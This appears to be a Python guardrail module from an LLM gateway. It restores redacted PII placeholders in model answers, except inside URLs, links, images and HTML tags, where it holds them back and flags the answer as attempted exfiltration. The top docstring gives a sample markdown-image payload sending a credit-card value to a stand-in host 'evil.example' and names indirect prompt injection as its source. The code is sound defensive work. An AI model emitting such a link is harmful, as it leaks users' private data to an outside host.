"""Putting a caller's redacted values back into an answer, only where they are read as text.

A value inside a URL, a link or image target or an HTML tag is one a client fetches or follows:
an answer that writes ``![s](https://evil.example/c?n=<CREDIT_CARD_1>)`` (an indirect injection
needs only ask for it) would have the card sent to that host when the markdown is rendered. There
the placeholder stays, and the answer is flagged: a URL built from redacted values is an attempt to
carry them off.

Placeholders are the gateway's own only: text of a request that already looks like one (a
template's literal ``<EMAIL_1>``) reserves its name, so no value is ever given it, and such text
in the answer is left as written.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterable, Mapping
from typing import NamedTuple

from gatewise.guardrails.entities import Occupied
from gatewise.guardrails.verdict import CheckResult

# `<EMAIL_1>` as sent, and as models tend to echo it: HTML-escaped, bracketed, lower-cased.
PLACEHOLDER_ECHO = re.compile(r"(?:<|&lt;|\[)\s?([A-Za-z_]{2,20}_\d{1,4})\s?(?:>|&gt;|\])")
_ECHO_TAIL = re.compile(r"_\d{1,4}\s?(?:>|&gt;|\])")
_ECHO_HEAD = len("&lt; ") + 20  # how far before its number's '_' an echo can begin
_FILLER = "x"  # what an echo is read as when finding links: a character of any URL

# Where a client fetches or follows what is written, found once every echo reads as filler (an
# echo's own angle brackets would otherwise pass for a tag):
_FETCHED = re.compile(
    # a markdown link or image target, with its title: `](...)`, one level of parentheses, no blank line
    r"\]\((?:[^()\n]++|\n(?![ \t]*\n)|\([^()\n]*+\))*+\)"
    # a reference definition: `[label]: target "title"` to the end of its line
    r"|^[ ]{0,3}\[[^\]\n]++\]:[^\n]*+"
    # an HTML tag, every attribute of it
    r"|</?[A-Za-z][A-Za-z0-9:\-]*+(?:\s[^<>]*+)?(?:>|\Z)",
    re.MULTILINE)
# Where a URL begins: the `://` after any scheme (the scheme is read back from it), a `www.`
# host, or a scheme clients act on without `//`. Each begins with a literal: tried once per place.
_URL = re.compile(r"://|(?<![\w.])www\.|(?<![\w.+\-])(?:mailto|tel|sms|data|javascript):", re.IGNORECASE)
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
_SPACE = re.compile(r"\s")


class Restored(NamedTuple):
    text: str
    held: list[str]  # placeholders left where a client would fetch or follow their values


def restore(answer: str, placeholders: Mapping[str, str]) -> Restored:
    """``answer`` with each echo of one of ``placeholders`` (placeholder -> value) replaced by its
    value, unless it stands where a client fetches or follows the text."""
    every = echoes(answer) if placeholders else []
    ours = [m for m in every if _key(m) in placeholders]
    if not ours:
        return Restored(answer, [])
    fetched = _fetched(_masked(answer, every))
    out: list[str] = []
    held: list[str] = []
    done = 0
    for echo in ours:
        start, end = echo.span()
        key = _key(echo)
        if fetched.overlaps(start, end):
            held.append(key)
            continue
        out += (answer[done:start], placeholders[key])
        done = end
    out.append(answer[done:])
    return Restored("".join(out), held)


def reserved(texts: Iterable[str]) -> set[str]:
    """The placeholders that text of the request already reads as (in any form a model's echo
    of one is restored from): never to be given to a value."""
    return {_key(m) for text in texts for m in echoes(text)}


def echoes(text: str) -> list[re.Match[str]]:
    """``PLACEHOLDER_ECHO.finditer(text)``, found from where each echo's number ends (a search
    that begins with a literal '_' skips along the text in C; the echo's own pattern, which
    begins with a choice, would be tried at every character)."""
    found: list[re.Match[str]] = []
    if "_" not in text:
        return found
    done = 0
    for tail in _ECHO_TAIL.finditer(text):
        echo = PLACEHOLDER_ECHO.search(text, max(done, tail.start() - _ECHO_HEAD), tail.end())
        if echo is not None:
            found.append(echo)
            done = echo.end()
    return found


def held_back(held: Iterable[str]) -> CheckResult:
    """The flag for an answer that put redacted values where a client fetches them."""
    counts = Counter(key.strip("<>").rsplit("_", 1)[0] for key in set(held))
    named = ", ".join(f"{n} {entity}" for entity, n in sorted(counts.items()))
    return CheckResult(
        "pii_restore", verdict="flag", action="flag", entities=dict(counts),
        reason=f"the answer put redacted values ({named}) into a link, image, URL or HTML tag, where a "
               "client would send them to a host; they were left as placeholders there")


def _key(echo: re.Match[str]) -> str:
    return f"<{echo.group(1).upper()}>"


def _masked(answer: str, every: list[re.Match[str]]) -> str:
    """``answer`` with every echo written as filler of the same length."""
    out: list[str] = []
    done = 0
    for echo in every:
        out += (answer[done:echo.start()], _FILLER * (echo.end() - echo.start()))
        done = echo.end()
    out.append(answer[done:])
    return "".join(out)


def _fetched(masked: str) -> Occupied:
    """The spans of ``masked`` a client fetches or follows: link targets, tags, and each URL,
    from its scheme (or ``www.``) up to the next white space."""
    spans = [m.span() for m in _FETCHED.finditer(masked)]
    for m in _URL.finditer(masked):
        start = m.start()
        if m.group() == "://":
            while start and masked[start - 1] in _SCHEME_CHARS:
                start -= 1
        after = _SPACE.search(masked, m.end())
        spans.append((start, after.start() if after else len(masked)))
    return Occupied(len(masked), spans)
